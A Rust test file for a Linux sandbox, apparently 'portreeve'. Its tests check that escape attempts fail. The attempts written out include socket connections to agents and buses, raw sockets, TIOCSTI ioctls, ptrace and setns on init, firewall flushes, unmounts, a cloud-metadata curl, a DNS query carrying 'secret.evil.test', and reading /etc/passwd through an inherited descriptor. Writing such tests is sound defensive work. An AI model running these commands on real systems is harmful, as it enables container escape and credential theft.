//! Ways out of a jail, each of which works without one.

use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::process::{Command, Stdio};

use crate::jail::{Jail, shown};

fn python(script: &str) -> String {
    format!("python3 -c '{script}'")
}

fn connect(address: &str) -> String {
    python(&format!(
        "import socket; socket.socket(socket.AF_UNIX).connect({address})"
    ))
}

#[test]
fn sockets_of_agents_and_daemons() {
    let Some(jail) = Jail::new() else { return };
    // ssh-agent and tmux have theirs in /tmp.
    let folder = tempfile::tempdir_in("/tmp").unwrap();
    let path = folder.path().join("agent.1");
    let _agent = UnixListener::bind(&path).unwrap();
    jail.stops(&connect(&format!("\"{}\"", path.display())));
    // The session bus, Docker without root, systemd's: in $XDG_RUNTIME_DIR, wherever that is.
    std::fs::create_dir(jail.path("runtime")).unwrap();
    let path = jail.path("runtime/bus");
    let _bus = UnixListener::bind(&path).unwrap();
    let attack = connect(&format!("\"{}\"", path.display()));
    assert!(jail.succeeds(&attack), "the attack is one");
    let mut command = jail.command(&["sh", "-c", &attack]);
    command.env("XDG_RUNTIME_DIR", jail.path("runtime"));
    let output = command.output().unwrap();
    assert!(!output.status.success(), "{}", shown(&output));
    // Docker, resolved, the system bus: in /run, which is new.
    assert_eq!(jail.says("ls /run"), "portreeve");
    assert_eq!(jail.says("ls -A /dev/shm"), "");
}

#[test]
fn an_abstract_socket() {
    let Some(jail) = Jail::new() else { return };
    let name = format!("portreeve-test-{}", std::process::id());
    let address = SocketAddr::from_abstract_name(&name).unwrap();
    let _listener = UnixListener::bind_addr(&address).unwrap();
    jail.stops(&connect(&format!("\"\\0{name}\"")));
}

#[test]
fn socket_families_beside_the_network_stack() {
    let Some(jail) = Jail::new() else { return };
    let family = |name: &str| {
        python(&format!(
            "import errno, socket\ntry: socket.socket(socket.{name}, socket.SOCK_RAW)\n\
             except OSError as e: print(errno.errorcode[e.errno])"
        ))
    };
    for name in ["AF_VSOCK", "AF_PACKET", "AF_ALG", "AF_TIPC"] {
        assert_eq!(jail.says(&family(name)), "EAFNOSUPPORT", "{name}");
    }
    // In namespaces of its own, a command has every capability, and still none of these.
    let packet = python("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)");
    jail.stops(&format!("unshare --user --keep-caps --net {packet}"));
    assert!(jail.succeeds("unshare --user --keep-caps --net true"));
}

#[test]
fn system_calls_that_know_no_namespace() {
    let Some(jail) = Jail::new() else { return };
    // TIOCSTI and TIOCLINUX: the standard input is no terminal, which would be the error.
    let ioctl = |number: &str| {
        python(&format!(
            "import errno, fcntl\ntry: fcntl.ioctl(0, {number}, b\"x\")\n\
             except OSError as e: print(errno.errorcode[e.errno])"
        ))
    };
    assert_eq!(jail.says(&ioctl("0x5401")), "ENOTTY", "TCGETS passes");
    assert_eq!(jail.says(&ioctl("0x5412")), "EPERM");
    assert_eq!(jail.says(&ioctl("0x541c")), "EPERM");
    // io_uring_setup, keyctl, add_key, request_key by number, where Python has no name.
    let numbers = if cfg!(target_arch = "x86_64") {
        [425, 250, 248, 249]
    } else {
        [425, 219, 217, 218]
    };
    for number in numbers {
        let call = python(&format!(
            "import ctypes, errno; c = ctypes.CDLL(None, use_errno=True); \
             c.syscall({number}, 0, 0, 0, 0, 0); print(errno.errorcode[ctypes.get_errno()])"
        ));
        assert_eq!(jail.says(&call), "ENOSYS", "{number}");
    }
}

#[test]
fn the_gateway_can_be_neither_seen_nor_signalled() {
    let Some(jail) = Jail::new() else { return };
    let test = std::process::id();
    jail.stops(&format!("kill -0 {test}"));
    jail.stops(&format!("test -e /proc/{test}"));
    // Init, the shell, and what counts: nobody else.
    let count = jail.says("ls /proc | grep -c '^[0-9]'");
    assert!(count.parse::<u32>().unwrap() <= 4, "{count}");
    // Init has the environment of the gateway.
    for file in ["environ", "mem", "maps", "root/etc/passwd", "fd/0"] {
        assert!(
            !jail.succeeds(&format!("head -c1 /proc/1/{file}")),
            "{file}"
        );
    }
    let ptrace = "import ctypes; exit(0 if ctypes.CDLL(None).ptrace(16, 1, 0, 0) == 0 else 1)";
    assert!(!jail.succeeds(&python(ptrace)), "PTRACE_ATTACH to init");
    assert!(
        jail.succeeds("kill -KILL 1; kill -STOP 1; sleep 0"),
        "init ignores it"
    );
}

#[test]
fn namespaces_of_others() {
    let Some(jail) = Jail::new() else { return };
    for kind in ["net", "mnt", "user", "pid"] {
        let setns = format!("import os; os.setns(os.open(\"/proc/1/ns/{kind}\", os.O_RDONLY))");
        assert!(!jail.succeeds(&python(&setns)), "{kind}");
    }
    assert!(!jail.succeeds("nsenter --target 1 --net true"));
}

#[test]
fn the_table_the_routes_and_the_mounts_stay() {
    let Some(jail) = Jail::new() else { return };
    let path = "PATH=$PATH:/usr/sbin:/sbin";
    for change in [
        "nft flush ruleset",
        "nft list ruleset | grep -q .",
        "ip link set lo down",
        "ip route flush table local",
        "umount /run",
        "mount -t tmpfs none /mnt",
    ] {
        // With capabilities in a user namespace of its own these are still not its own.
        for with in ["", "unshare --user --keep-caps "] {
            let attack = format!("{path}; {with}{change}");
            let output = jail.sh(&attack);
            assert!(!output.status.success(), "{attack}: {}", shown(&output));
        }
    }
    let uncover = "unshare --user --keep-caps --mount umount";
    for covered in ["/run", "/tmp", "/dev/pts", "/proc"] {
        assert!(!jail.succeeds(&format!("{uncover} {covered}")), "{covered}");
    }
}

#[test]
fn packets_that_are_no_redirected_connection() {
    let Some(jail) = Jail::new() else { return };
    let links = jail.says("PATH=$PATH:/usr/sbin:/sbin; ip -o link | wc -l");
    assert_eq!(links, "1", "only lo");
    for (family, address) in [("AF_INET", "192.0.2.1"), ("AF_INET6", "2001:db8::1")] {
        let udp = |port: u16| {
            python(&format!(
                "import socket; s = socket.socket(socket.{family}, socket.SOCK_DGRAM); \
                 s.connect((\"{address}\", {port})); s.send(b\"x\"); s.settimeout(20); s.recv(9)"
            ))
        };
        for port in [443, 9999] {
            let said = shown(&jail.sh(&udp(port)));
            let refused = said.contains("ConnectionRefused") || said.contains("PermissionError");
            assert!(refused, "{said}");
        }
        let tcp = python(&format!(
            "import socket; socket.create_connection((\"{address}\", 25), 20)"
        ));
        let said = shown(&jail.sh(&tcp));
        assert!(said.contains("ConnectionRefused"), "{said}");
        let raw = python(&format!(
            "import socket; socket.socket(socket.{family}, socket.SOCK_RAW, 1)"
        ));
        assert!(shown(&jail.sh(&raw)).contains("PermissionError"));
    }
    let metadata = "curl -sS --max-time 2 http://169.254.169.254/latest/meta-data/";
    assert!(!jail.succeeds(metadata));
}

#[test]
fn names_are_asked_of_the_gateway_whatever_the_resolver() {
    let Some(jail) = Jail::new() else { return };
    for resolver in ["127.0.0.53", "8.8.8.8"] {
        let query = python(&format!(
            "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); \
             s.settimeout(20); s.connect((\"{resolver}\", 53)); \
             s.send(b\"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\" \
             b\"\\x06secret\\x04evil\\x04test\\0\\0\\x01\\0\\x01\"); \
             print(socket.inet_ntoa(s.recv(512)[-4:]))"
        ));
        assert_eq!(jail.says(&query), "198.18.0.1", "{resolver}");
    }
}

#[test]
fn inherited_descriptors_are_closed() {
    let Some(jail) = Jail::new() else { return };
    let exec = jail.command(&["sh", "-c", "cat <&9"]);
    let words: Vec<String> = std::iter::once(exec.get_program())
        .chain(exec.get_args())
        .map(|word| format!("'{}'", word.to_str().unwrap()))
        .collect();
    let script = format!("exec 9</etc/passwd; {}", words.join(" "));
    let mut shell = Command::new("sh");
    shell.args(["-c", &script]).stdin(Stdio::null());
    for (name, value) in exec.get_envs() {
        shell.env(name, value.unwrap_or_default());
    }
    let output = shell.output().unwrap();
    assert!(!shown(&output).contains("root:"), "{}", shown(&output));
    assert!(!output.status.success());
    assert!(jail.succeeds_outside("exec 9</etc/passwd; cat <&9"));
}

#[test]
fn nothing_is_left_to_gain_privileges_with() {
    let Some(jail) = Jail::new() else { return };
    let status = jail.says("cat /proc/self/status");
    for set in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert!(
            status.contains(&format!("{set}:\t0000000000000000")),
            "{status}"
        );
    }
    assert!(status.contains("NoNewPrivs:\t1"), "{status}");
}

#[test]
fn strict_forbids_user_namespaces_and_unix_sockets() {
    let Some(jail) = Jail::new() else { return };
    let path = jail.path("work/daemon.sock");
    let _daemon = UnixListener::bind(&path).unwrap();
    let (nested, socket) = ("unshare --user true", connect("\"daemon.sock\""));
    assert!(
        jail.succeeds(nested) && jail.succeeds(&socket),
        "not by default"
    );
    let jail = jail.flag("--strict");
    jail.stops(nested);
    jail.stops(&socket);
    let pair = python("import socket; socket.socketpair()");
    assert!(jail.succeeds(&pair));
}
